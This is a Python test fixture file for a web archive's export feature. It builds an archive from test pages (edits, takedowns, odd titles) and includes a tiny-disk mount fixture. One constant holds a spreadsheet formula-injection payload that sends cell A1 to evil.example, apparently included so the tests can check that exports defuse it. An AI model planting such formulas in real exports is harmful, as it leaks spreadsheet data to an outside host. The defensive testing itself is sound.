"""An archive with what exports have to cope with, made once: edits, revisits, redirects, a takedown, odd titles."""

import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import attrs
import pytest

from storage.archive import Archive
from tests.conftest import Command, running

FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "Prices")'
ODD = "+1 “odd” <b>title</b>, with; separators"


@attrs.frozen
class Library:
    """The archive, and the site that it was filled from."""

    command: Command
    site: Any

    def url(self, path: str) -> str:
        return str(self.site.url(path))

    def export(self, *words: str) -> subprocess.CompletedProcess[str]:
        done = self.command("export", *words)
        assert "Traceback" not in done.stderr, done.stderr
        return done

    def open(self) -> Archive:
        return Archive.open(self.command.archive)


@pytest.fixture(scope="session")
def library(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Library]:
    for site in running():
        command = Command(tmp_path_factory.mktemp("exporting") / "archive")
        site.publish("/formula", FORMULA.replace('"', "&quot;"))
        site.publish("/odd", ODD.replace("<", "&lt;"))
        same = site.path("/etag", audited=False)
        paths = ["/edited", same, "/old", "/vanishing", "/walled", "/formula", "/odd"]
        command.archived(*map(site.url, paths), code=0)
        command.believes_304s()
        site.edition = 2
        command.archived(*map(site.url, ["/edited", same, "/vanishing", "/walled"]))
        yield Library(command, site)


@pytest.fixture
def small_disk(tmp_path: Path) -> Iterator[Path]:
    """A disk of 16 KiB. Only root can mount one."""
    folder = tmp_path / "small"
    folder.mkdir()
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=16k", "tmpfs", str(folder)], capture_output=True, text=True, check=False
    )
    if done.returncode != 0:
        pytest.skip(f"no disk can be mounted here: {done.stderr.strip()}")
    yield folder
    subprocess.run(["umount", "--lazy", str(folder)], check=True)
